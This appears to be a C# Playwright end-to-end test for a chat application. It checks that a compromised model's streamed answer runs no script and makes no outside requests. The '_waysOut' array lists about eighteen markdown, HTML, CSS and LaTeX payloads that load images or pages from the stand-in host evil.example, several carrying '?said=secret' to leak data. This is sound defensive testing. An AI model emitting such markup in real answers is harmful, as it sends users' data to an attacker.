using Microsoft.Playwright;
using WorkSquared.Tests.Support;
using WorkSquared.Tests.Web.Markdown;

namespace WorkSquared.Tests.EndToEnd;

/// <summary>A model that has been talked into harm: what it writes runs nowhere and calls nobody, while it is written and afterwards.</summary>
[Trait("Kind", "EndToEnd")]
public sealed class HostileAnswerTests(BrowserFixture browser)
{
    /// <summary>Ways out for what a model has read, if a page loads what it is shown.</summary>
    private static readonly string[] _waysOut =
    [
        "![a](https://evil.example/a.png?said=secret)",
        "![b][out]\n\n[out]: https://evil.example/b.png?said=secret",
        "![c][]\n\n[c]: <https://evil.example/c.png?said=secret>",
        "[![d](https://evil.example/d.png)](https://evil.example/d?said=secret)",
        "![e](//evil.example/e.png)",
        "![f](/\\evil.example/f.png)",
        "![g](https://127.0.0.1.evil.example/g.png)",
        "<img src=\"https://evil.example/h.png\">",
        "<picture><source srcset=\"https://evil.example/i.png\"></picture>",
        "<video poster=\"https://evil.example/j.png\"></video>",
        "<link rel=prefetch href=\"https://evil.example/k\">",
        "<style>@import 'https://evil.example/l.css'</style>",
        "<div style=\"background:url(https://evil.example/m.png)\">m</div>",
        "<iframe src=\"https://evil.example/n\"></iframe>",
        "<svg><image href=\"https://evil.example/o.png\"/></svg>",
        "$\\includegraphics{https://evil.example/p.png}$",
        "$\\href{https://evil.example/q}{q}$",
        "| ![r](https://evil.example/r.png) |\n|---|\n| ![s](https://evil.example/s.png) |",
    ];

    [Fact]
    public async Task Answer_OfAttacksAlone_RunsNothing_AndCallsNobody_WhileItStreamsAndAfterwards()
    {
        await using var provider = await ScriptedProvider.StartAsync();
        await using var server = await ServerProcess.StartAsync(provider);
        var page = await browser.OpenAsync(server.Url);
        List<string> harm = [];
        page.Dialog += (_, dialog) =>
        {
            harm.Add($"ran: {dialog.Message}");
            _ = dialog.DismissAsync();
        };

        // A report means that the renderer let through what the policy then stopped: the second wall is not the first.
        page.Context.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(server.Url, StringComparison.Ordinal) || request.Url.EndsWith("/csp", StringComparison.Ordinal))
            {
                harm.Add($"called: {request.Url}");
            }
        };
        var isSeen = new TaskCompletionSource();
        provider.Next(async wire =>
        {
            foreach (var attack in MarkdownHtmlTests.Attacks.Select(row => row.Data).Concat(_waysOut))
            {
                await wire.TextAsync($"{attack}\n\n");
            }

            await wire.TextAsync("All of it. ");
            await isSeen.Task;
            await wire.TextAsync("The end.");
            await wire.EndAsync();
        });

        await page.AskAsync("Harm me");
        await Assertions.Expect(page.RunningAnswer()).ToContainTextAsync("All of it.");
        await ExpectHarmlessAsync(page);
        isSeen.SetResult();
        await Assertions.Expect(page.RunningAnswer()).ToHaveCountAsync(0);
        await Assertions.Expect(page.Messages().Nth(1)).ToContainTextAsync("The end.");
        await ExpectHarmlessAsync(page);
        await page.ReloadAsync();
        await Assertions.Expect(page.Messages().Nth(1)).ToContainTextAsync("The end.");
        await ExpectHarmlessAsync(page);

        Assert.Empty(harm);
    }

    private static async Task ExpectHarmlessAsync(IPage page)
    {
        var text = page.Messages().Nth(1).Locator(".markdown");
        await Assertions.Expect(text.Locator("img, picture, video, iframe, object, embed, script, style, link, form, svg image, [style*=url]")).ToHaveCountAsync(0);
        await Assertions.Expect(text.Locator("a:not([href^='https://']):not([href^='http://']):not([href^='mailto:']):not([href^='/'])")).ToHaveCountAsync(0);
        await Assertions.Expect(text.Locator("a[target]:not([rel='noopener noreferrer nofollow'])")).ToHaveCountAsync(0);
    }
}
